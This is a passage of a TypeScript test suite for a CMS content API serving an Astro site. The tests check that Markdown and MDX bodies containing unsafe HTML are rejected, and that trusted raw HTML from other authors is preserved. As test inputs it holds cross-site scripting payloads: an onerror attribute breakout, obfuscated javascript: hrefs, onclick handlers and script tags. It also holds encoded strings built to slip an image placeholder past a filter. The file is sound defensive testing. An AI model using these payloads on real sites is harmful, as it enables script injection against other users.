    `<b title='__ASTRO_IMAGE_="{&quot;src&quot;:&quot;https://e.x/a.png&quot;,&quot;&apos;><img src=/x onerror=alert(1)>&quot;:1}"'>x</b>\n\n![p](1)`,
    `<b title='__ASTRO_IMAGE_="{&quot;src&quot;:&quot;https://e.x/a.png&quot;}"'>x</b>`,
    '<img __ASTRO_IMAGE_="{">',
    '<img __astro_image_="{}">',
    '`__ASTRO_IMAGE_="{}"`',
    '\\_\\_ASTRO\\_IMAGE\\_="{}"',
    '&#95;&#x5f;ASTRO&lowbar;IMAGE_',
    '<b title="&#0000000095;_ASTRO_IMAGE_">x</b>',
    '<b title="&UnderBar;_ASTRO_IMAGE_">x</b>',
    '![&UnderBar;&UnderBar;ASTRO&UnderBar;IMAGE&UnderBar;](1)',
    '<!-- __ASTRO_IMAGE_="" -->',
  ])('is rejected in a new body: %j', async (value) => {
    const { status, errors } = await create(value);
    expect(status).toBe(422);
    expect(errors).toEqual([
      expect.objectContaining({
        detail: 'A text cannot have `__ASTRO_IMAGE_`, because Astro puts an image in its place. Remove it.',
        source: POINTER,
      }),
    ]);
  });

  it('is rejected with `use raw html` too', async () => {
    const { handle: to } = await site();
    const { status } = await create('<b title=\'__ASTRO_IMAGE_="{"\'>x</b>', ADMINISTRATOR, to);
    expect(status).toBe(422);
  });
});

describe('a body by another author', () => {
  it('keeps its raw HTML if it is not changed', async () => {
    const { handle: to, driver } = await site();
    const value = '<script>trusted()</script>\n\nOld text.';
    expect((await send('PATCH', 'trusted', { title: 'New' }, EDITOR, to)).status).toBe(200);
    const body = { value, summary: 'New' };
    expect((await send('PATCH', 'trusted', { body }, EDITOR, to)).body.value).toBe(value);
    const file = Buffer.from((await driver.read('page/trusted.md'))!).toString();
    expect(file).toContain('summary: New');
    expect(file).toContain('<script>trusted()</script>\n\nOld text.\n');
  });

  it('keeps its raw HTML when an editor changes its text', async () => {
    const { handle: to, driver } = await site();
    const value = '<script>trusted()</script>\n\nNew text.\n\nMore.';
    expect((await send('PATCH', 'trusted', { body: { value } }, EDITOR, to)).status).toBe(200);
    expect(Buffer.from((await driver.read('page/trusted.md'))!).toString()).toContain(value);
    expect((await send('PATCH', 'trusted', { body: { value: 'No HTML.' } }, EDITOR, to)).status).toBe(200);
    // It is not in the stored body any more.
    const { status, errors } = await send('PATCH', 'trusted', { body: { value } }, EDITOR, to);
    expect([status, errors]).toEqual([422, needsRawHtml('<script>')]);
  });

  it.each([
    ['<script>trusted()</script>\n\n<script>trusted()</script>', '<script>'],
    ['<script>trusted(1)</script>\n\nOld text.', '<script>'],
    ['<script>trusted()</script>\n\n<i onclick="x">Old</i> text.', 'onclick of <i>'],
    ['<div><script>trusted()</script></div>\n\nOld text.', '<script>'],
  ])('cannot get other raw HTML from an editor: %j', async (value, part) => {
    const { handle: to } = await site();
    const { status, errors } = await send('PATCH', 'trusted', { body: { value } }, EDITOR, to);
    expect([status, errors]).toEqual([422, needsRawHtml(part)]);
  });

  it('cannot be copied into another entity', async () => {
    const { handle: to } = await site();
    const value = '<script>trusted()</script>';
    expect((await send('PATCH', 'first', { body: { value } }, EDITOR, to)).status).toBe(422);
    expect((await create(value, EDITOR, to)).status).toBe(422);
  });

  it('can have links of documentation tools from an editor', async () => {
    const { handle: to } = await site();
    expect((await create('[String](xref:System.String)', EDITOR, to)).status).toBe(201);
  });

  it('is stored as sent by users with `use raw html`', async () => {
    const { handle: to } = await site();
    const value = '<script>mine()</script>';
    expect((await send('PATCH', 'trusted', { body: { value } }, ADMINISTRATOR, to)).body.value).toBe(value);
  });
});

describe('the rendered HTML of a body', () => {
  it.each([
    ['x<script src=/a.js></script>', ['<script>']],
    ['<p onclick="x">y</p>', ['onclick of <p>']],
    ['<p><a href="java&#10;script:x">y</a></p>', ['"java\\nscript:x" in href of <a>']],
    ['<div><iframe src="https://video.example"></iframe></div>', ['<iframe>']],
    ['<svg><animate attributeName="href"></animate></svg>', ['<animate>']],
  ])('is rejected with a 422: %s', async (html, parts) => {
    const { handle: to, driver } = await site(async () => html);
    const { status, errors } = await create('text', EDITOR, to);
    expect(status).toBe(422);
    expect(errors).toEqual(needsRawHtml(...parts));
    expect(await driver.read('page/a-page.md')).toBeUndefined();
  });

  it('may contain the output of renderers: coloured code, check boxes, formulas, icons and notes', async () => {
    const html =
      '<pre class="astro-code" style="color:#fff" tabindex="0" data-language="js"><code><span class="line"></span></code></pre>' +
      '<ul class="contains-task-list"><li><input type="checkbox" checked disabled> x</li></ul>' +
      '<math display="block"><mrow><mi mathvariant="normal">x</mi></mrow></math>' +
      '<svg viewBox="0 0 1 1" aria-hidden="true"><path d="M0 0" fill="none"/></svg>' +
      '<section data-footnotes class="footnotes"><a href="#fnref-1" aria-label="Back">↩</a></section>';
    const { handle: to } = await site(async () => html);
    expect((await send('POST', undefined, { title: 'New', body: 'text' }, EDITOR, to)).status).toBe(201);
  });

  it.each([
    ['quotes', '>'.repeat(1_000)],
    ['quotes with HTML', `${'>'.repeat(50_000)}<b>x</b>`],
    ['lists with HTML', `${'- '.repeat(5_000)}<b>x</b>`],
    ['much HTML', '<b>x</b>\n'.repeat(30_000)],
    ['tags', '<div>'.repeat(20_000)],
    ['brackets', '['.repeat(20_000)],
    ['scripts', '<script>'.repeat(20_000)],
  ])('is never a 500, however deep: %s', async (_name, value) => {
    expect([201, 422]).toContain((await create(value)).status);
  });

  it('is not stored if it cannot be rendered', async () => {
    const { handle: to } = await site(async () => {
      throw new Error('a plugin failed');
    });
    const { status, errors } = await send('POST', undefined, { title: 'New', body: 'text' }, EDITOR, to);
    expect([status, errors[0]?.detail]).toEqual([422, 'This text cannot be rendered: a plugin failed']);
  });
});

describe('the REST API', () => {
  async function sendRest(method: string, path: string, entity: object, headers = {}) {
    const { handle: to, driver } = await site();
    const response = await fetchFrom(to, `/api/content/page${path}`, {
      method,
      headers: { 'content-type': 'application/json', ...headers },
      body: JSON.stringify(entity),
      actor: EDITOR,
    });
    const text = await response.text();
    return {
      status: response.status,
      text,
      read: async (key: string) => String(Buffer.from((await driver.read(key)) ?? [])),
    };
  }
  const body = '<b onclick="x()">y</b> [z](javascript:x)';

  it.each([
    ['POST', '', 'page/new.md', {}],
    ['PUT', '/new', 'page/new.md', { 'if-none-match': '*' }],
    ['PUT', '/trusted', 'page/trusted.md', {}],
    ['PATCH', '/trusted', 'page/trusted.md', {}],
  ])('rejects the same: %s %s', async (method, path, key, headers) => {
    const { status, text, read } = await sendRest(method, path, { title: 'New', body }, headers);
    expect(status).toBe(422);
    expect(text).toContain('onclick of <b>, \\"javascript:x\\" in href of <a>');
    expect(await read(key)).not.toContain('[z]');
  });

  it.each([
    ['POST', '', { title: 'New', body: { value: '{1}', format: 'mdx' } }],
    ['PUT', '/code', { title: 'New', body: '{2}' }],
    ['PUT', '/code', { title: 'New' }],
    ['PATCH', '/code', { body: '{2}' }],
  ])('rejects MDX too: %s %s %j', async (method, path, entity) => {
    const { status, read } = await sendRest(method, path, entity);
    expect(status).toBe(403);
    expect(await read('page/code.mdx')).toContain('{1 + 1}');
  });
});

describe('an MDX body', () => {
  it.each([
    ['POST', undefined, { title: 'New', body: { value: '{1}', format: 'mdx' } }],
    ['POST', undefined, { title: 'New', body: { format: 'mdx' } }],
    ['PATCH', 'code', { body: { value: '{2}' } }],
    ['PATCH', 'code', { body: '{2}' }],
  ] as const)('cannot be sent by editors or administrators: %s %s', async (method, id, attributes) => {
    expect((await send(method, id, attributes)).status).toBe(403);
    expect((await send(method, id, attributes, ADMINISTRATOR)).status).toBe(403);
  });

  it('cannot replace a Markdown body', async () => {
    expect((await send('PATCH', 'first', { body: { value: '{1}', format: 'mdx' } })).status).toBe(422);
  });

  it('does not prevent editors from changing other fields', async () => {
    const { handle: to } = await site();
    expect((await send('PATCH', 'code', { title: 'New' }, EDITOR, to)).status).toBe(200);
    expect((await send('PATCH', 'code', { body: { summary: 'New' } }, EDITOR, to)).status).toBe(200);
  });

  it('may be sent back unchanged by editors, with other fields or a new summary', async () => {
    const { handle: to } = await site();
    const value = '{1 + 1}';
    const sent = await send('PATCH', 'code', { title: 'New', body: { value, summary: 'New' } }, EDITOR, to);
    expect([sent.status, sent.body.value]).toEqual([200, value]);
    expect((await send('PATCH', 'code', { title: 'Newer', body: value }, EDITOR, to)).status).toBe(200);
    expect((await send('PATCH', 'code', { body: null }, EDITOR, to)).status).toBe(403);
  });

  it('may be sent with code by users with the permission', async () => {
    const { handle: to } = await site(async () => '<p>2</p>');
    const body = { value: '<X onClick={() => 1} />', format: 'mdx' };
    const { status, body: written } = await send('POST', undefined, { title: 'New', body }, DEVELOPER, to);
    expect([status, written.value, written.format]).toEqual([201, body.value, 'mdx']);
  });
});
